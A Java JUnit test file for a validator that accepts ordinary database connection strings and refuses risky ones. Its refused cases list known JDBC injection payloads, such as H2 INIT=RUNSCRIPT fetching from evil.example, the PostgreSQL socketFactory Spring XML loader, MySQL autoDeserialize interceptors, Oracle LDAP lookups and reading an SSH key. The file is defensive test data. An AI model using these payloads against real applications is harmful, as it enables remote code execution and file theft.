package org.isolde.run;

import static org.junit.jupiter.api.Assertions.assertDoesNotThrow;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class HarmlessTest {
    private static Harmless of(Target target) throws DatabaseException {
        return Databases.of(target).harmless();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "jdbc:postgresql://h:5432/d?user=me&password=hun@ter%2&sslmode=require",
                "jdbc:postgresql://h1:1,h2:2/d",
                "jdbc:postgresql://[::1]/d",
                "jdbc:mysql://me:secret@h:3306/d?useSSL=true",
                "jdbc:mariadb://h/d",
                "jdbc:sqlserver://h:1433;databaseName=d;encrypt=false;user=sa;password=x",
                "jdbc:h2:mem:x;LOCK_TIMEOUT=500",
                "jdbc:h2:tcp://h:9092/x",
                "jdbc:hsqldb:mem:x;hsqldb.tx=mvcc",
                "jdbc:derby:memory:x;create=true",
                "mongodb://me:pw@h1:27017,h2/?replicaSet=rs0",
                "mongodb+srv://h/d",
                "h2",
                "postgres:18.6"
            })
    void whatNamesAHostOrADatabaseInMemoryIsTaken(String db) throws Exception {
        Target target = Target.parse(db, Map.of());
        assertDoesNotThrow(() -> of(target).require(target));
    }

    /** The known ways to run code, to read or write files, or to fetch what does. */
    @ParameterizedTest
    @ValueSource(
            strings = {
                "jdbc:h2:mem:x;INIT=CREATE ALIAS E AS 'void e() {}'",
                "jdbc:h2:mem:x;init=RUNSCRIPT FROM 'http://evil.example/a.sql'",
                "jdbc:h2:mem:x;LOCK_TIMEOUT=5\\;INIT=RUNSCRIPT",
                "jdbc:h2:mem:x;TRACE_LEVEL_FILE=3",
                "jdbc:h2:mem:x;DATABASE_EVENT_LISTENER='evil.Class'",
                "jdbc:h2:mem:x;JAVA_OBJECT_SERIALIZER='evil.Class'",
                "jdbc:h2:mem:x;MODE=a'b",
                "jdbc:h2:/tmp/evil",
                "jdbc:h2:file:~/x",
                "jdbc:h2:zip:/tmp/evil.zip!/x",
                "jdbc:h2:mem:x/../../y",
                "jdbc:postgresql://h/d?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext"
                        + "&socketFactoryArg=http://evil.example/x.xml",
                "jdbc:postgresql://h/d?sslfactory=evil.Class",
                "jdbc:postgresql://h/d?loggerLevel=TRACE&loggerFile=/tmp/x",
                "jdbc:postgresql://h/d?sslkey=/home/me/.ssh/id_rsa",
                "jdbc:postgresql://h/d?%73ocketFactory=evil.Class",
                "jdbc:postgresql://h/d/../?jaasLogin=true",
                "jdbc:postgresql:d",
                "jdbc:mysql://h/d?autoDeserialize=true&queryInterceptors=evil.Class",
                "jdbc:mysql://h/d?allowLocalInfile=true",
                "jdbc:mysql://address=(host=h)(autoDeserialize=true)/d",
                "jdbc:mysql://(host=h,autoDeserialize=true)/d",
                "jdbc:mysql:loadbalance://h/d",
                "jdbc:mariadb://h/d?credentialType=evil",
                "jdbc:mariadb:aurora://h/d",
                "jdbc:sqlserver://h;socketFactoryClass=evil.Class",
                "jdbc:sqlserver://h;password={a;socketFactoryClass=evil}",
                "jdbc:hsqldb:file:/tmp/x",
                "jdbc:hsqldb:res:x",
                "jdbc:derby:/tmp/x;create=true",
                "jdbc:derby:memory:x;restoreFrom=/tmp/x",
                "jdbc:derby:classpath:x",
                "jdbc:sqlite:/tmp/x?enable_load_extension=true",
                "jdbc:sqlite::resource:http://evil.example/x.db",
                "jdbc:duckdb:/tmp/x",
                "jdbc:oracle:thin:@ldap://evil.example/x",
                "mongodb://h/?authMechanism=MONGODB-AWS"
            })
    void whatMayRunCodeOrTouchFilesIsRefused(String db) {
        Target target = Target.parse(db, Map.of());
        assertThrows(DatabaseException.class, () -> of(target).require(target));
    }

    @ParameterizedTest
    @CsvSource({
        "h2, OPTIMIZE_REUSE_RESULTS, 0, true",
        "h2, LOCK_TIMEOUT, 5;INIT=RUNSCRIPT, false",
        "h2, INIT, select 1, false",
        "h2, TRACE_LEVEL_FILE, 3, false",
        "postgres, set.deadlock_timeout, 1s, true",
        "postgres, archive_command, touch /tmp/x, false",
        "postgres, shared_preload_libraries, x, false",
        "mariadb, innodb-snapshot-isolation, ON, true",
        "mariadb, plugin_load, x.so, false",
        "mariadb, init-file, /tmp/x, false",
        "galera, wsrep_notify_cmd, /tmp/x, false",
        "cassandra, java, /tmp/evil, false",
        "cassandra, commitlog, batch, true",
        "sqlite, journal, wal, true"
    })
    void optionsAreHeldToTheListToo(String name, String option, String value, boolean taken) throws Exception {
        Target target = Target.parse(name, Map.of(option, value));
        assertEquals(taken ? List.of() : List.of(option), of(target).others(target));
    }

    /** Also a URL of a kind that is harmless elsewhere. */
    @Test
    void whatIsOnNoListIsRefused() {
        Target target = Target.parse("jdbc:postgresql://h/d", Map.of()).withDialect("standard");
        DatabaseException refused =
                assertThrows(DatabaseException.class, () -> of(target).require(target));
        assertTrue(refused.getMessage().contains("use it on the command line"), refused.getMessage());
    }
}
